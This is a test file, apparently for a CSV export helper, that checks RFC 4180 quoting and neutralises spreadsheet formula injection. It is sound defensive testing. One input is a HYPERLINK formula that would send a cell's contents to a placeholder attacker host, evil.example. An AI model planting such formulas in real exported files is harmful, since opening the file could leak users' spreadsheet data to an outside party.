import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv';

describe('CSV cells', () => {
  it('quote commas, quotes and line breaks by RFC 4180', () => {
    expect(csvCell('Lim, Ana')).toBe('"Lim, Ana"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
  });

  it('keep text a spreadsheet would run as a formula as text', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+65 9123 4567')).toBe("'+65 9123 4567");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`,
    );
  });

  it('keep a formula after a semicolon as text, for Excel where the list separator is ";"', () => {
    expect(csvCell('x;=1+1;')).toBe("x;'=1+1;");
    expect(csvCell('a,b;=HYPERLINK(A1)')).toBe(`"a,b;'=HYPERLINK(A1)"`);
    expect(csvCell('Tan; @SUM(A1)')).toBe('Tan; @SUM(A1)');
    expect(csvCell('1;-5;+3.25')).toBe('1;-5;+3.25');
    expect(csvCell('x;@A1;-A1')).toBe("x;'@A1;'-A1");
  });

  it('leave plain numbers, empty values and dates readable', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-5')).toBe('-5');
    expect(csvCell('+3.25')).toBe('+3.25');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(new Date('2026-12-04T10:00:00Z'))).toBe('2026-12-04T10:00:00.000Z');
    expect(csvLine(['a', 1, null, '=x'])).toBe("a,1,,'=x");
  });
});
